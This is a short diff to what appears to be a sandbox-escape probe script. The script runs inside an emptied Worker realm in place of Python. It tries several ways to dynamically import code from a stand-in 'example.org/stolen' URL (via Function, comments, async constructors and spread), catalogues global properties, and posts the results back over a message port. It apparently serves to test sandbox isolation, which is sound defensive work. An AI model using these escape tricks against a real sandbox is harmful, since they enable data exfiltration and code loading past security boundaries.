@@ -1,6 +1,6 @@
-// Runs in the Worker's emptied realm as if it had got through to JavaScript, and looks for a way out.
-const { send } = globalThis.pythonDoor;
-delete globalThis.pythonDoor;
+// Runs in the Worker in place of Python, as if it had got through to JavaScript, and looks for a way out.
+addEventListener("message", ({ ports: [port] }) => {
+globalThis.closeRealm?.();
 const ways = {};
 const tried = (name, attempt) => {
   try {
@@ -12,6 +12,7 @@ const tried = (name, attempt) => {
   }
 };
 const away = "https://example.org/stolen";
+tried("spread in Function", () => Function(`[...import("${away}0")]`)());
 tried("import in Function", () => Function(`return import("${away}1")`)());
 tried("import with a comment", () => Function(`return import/**/("${away}2")`)());
 tried("import in an async function", () => (async () => {}).constructor(`return import("${away}3")`)());
@@ -55,4 +56,5 @@ while (queue.length) {
     queue.push(descriptor.value, descriptor.get, descriptor.set);
   }
 }
-send({ ways, names: [...names].sort(), globals: Reflect.ownKeys(globalThis).map(String).sort() });
+port.postMessage({ id: 0, memory: { ways, names: [...names].sort() } });
+});
